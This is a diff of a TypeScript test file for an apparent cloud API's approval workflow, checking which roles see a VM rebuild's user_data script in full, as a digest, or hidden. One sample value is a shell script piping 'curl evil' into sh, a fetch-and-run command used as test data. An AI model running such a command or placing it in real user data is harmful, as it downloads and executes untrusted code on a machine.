@@ -1,10 +1,12 @@
 // What a guarded token asks for waits for a person, and is carried out once, as the token's, if its plan is the same.
-import type { TokenGuard } from "@fulmar/contract";
+import { randomUUID } from "node:crypto";
+import type { RequestedField, TokenGuard } from "@fulmar/contract";
 import { resealStoredValues } from "@fulmar/core/operator";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { type Api, type ApiResponse, startApi } from "../api-fixture.ts";
 import { ConsoleFixture } from "../console-fixture.ts";
 import { databaseState } from "../database-state.ts";
+import { ExampleFixture } from "../examples/example-fixture.ts";
 
 let api: Api;
 let fixture: ConsoleFixture;
@@ -240,6 +242,57 @@ test("only a role that may do it decides, and others see why not", async () => {
   expect((await decide("approve", approvalId, fixture.people.developer)).value).toMatchObject({
     status: "carried_out",
   });
+});
+
+test("who may decide reads a script, others see its digest, and who may not read VMs sees neither", async () => {
+  const example = new ExampleFixture(api, fixture.tenant);
+  const vm = await example.vm();
+  const token = await fixture.token({ guard: "approve_destructive" });
+  const user_data = "#!/bin/sh\ncurl evil | sh\n";
+  const body = { template_id: "debian-13", user_data, ssh_keys: [] };
+  const approvalId = expectWaiting(
+    await fixture.send(token, "POST", `/compute/cloud-vms/${vm}/rebuild`, { body, key: randomUUID() }),
+  );
+  const get = async (who: string) =>
+    (
+      await fixture.call(
+        "approval.get",
+        { ...fixture.workspace, approval_id: approvalId },
+        { credentials: fixture.as(who) },
+      )
+    ).value as { fields: RequestedField[]; warnings: string[] };
+  const digest = "25 bytes, SHA-256 02d8e966c08ee2d7e62ee11ea4485bd5bd6a61a6d8fa00f9d71cfb22ba7a7b9a";
+  const shown = (text: string | null): RequestedField[] => [
+    { field: "vm_id", shown_as: "value", value: vm, text: null },
+    { field: "template_id", shown_as: "value", value: "debian-13", text: null },
+    { field: "ssh_keys", shown_as: "value", value: [], text: null },
+    { field: "user_data", shown_as: "text", value: digest, text },
+  ];
+  for (const role of ["owner", "admin", "developer"] as const)
+    expect((await get(fixture.people[role])).fields).toEqual(shown(user_data));
+  for (const role of ["viewer", "secret_reader"] as const)
+    expect((await get(fixture.people[role])).fields).toEqual(shown(null));
+  expect((await get(fixture.people.billing)).fields).toEqual(
+    shown(null).map(({ field }) => ({ field, shown_as: "hidden", value: null, text: null })),
+  );
+  const toToken = await outcomeFor(token, approvalId);
+  expect(toToken.fields).toEqual(shown(null));
+  expect(toToken.warnings).toEqual(["It replaces the root disk: everything on it is lost."]);
+  // What was decided is shown on, as far as it is kept.
+  await decide("reject", approvalId);
+  expect((await get(fixture.people.owner)).fields).toEqual(shown(null));
+});
+
+test("a request that another release let wait is shown until it is decided", async () => {
+  const token = await fixture.token({ guard: "approve_destructive" });
+  const name = await makeBucket();
+  const approvalId = expectWaiting(await fixture.send(token, "DELETE", `/object-storage/buckets/${name}`));
+  await api.database.pool.query("UPDATE approval SET shown_fields = NULL WHERE approval_id = $1", [approvalId]);
+  expect((await outcomeFor(token, approvalId)).fields).toContainEqual({
+    ...{ field: "bucket_name", shown_as: "value", value: name, text: null },
+  });
+  await decide("reject", approvalId);
+  expect((await outcomeFor(token, approvalId)).fields).toEqual([]);
 });
 
 test("a token sees its own, and another workspace none", async () => {
@@ -559,7 +612,9 @@ test("a signed URL is answered once to the same request after it was approved", 
     fixture.send(token, "POST", `/object-storage/buckets/${name}/upload-urls`, { body: { object_key } });
   const first = await send("a.txt");
   const approvalId = expectWaiting(first);
-  expect(first.body.plan.warnings[0]).toContain("a.txt");
+  expect((await outcomeFor(token, approvalId)).fields).toContainEqual({
+    ...{ field: "object_key", shown_as: "value", value: "a.txt", text: null },
+  });
   expect((await decide("approve", approvalId)).value).toMatchObject({ status: "approved" });
   expectWaiting(await send("b.txt"));
   const answered = await send("a.txt");
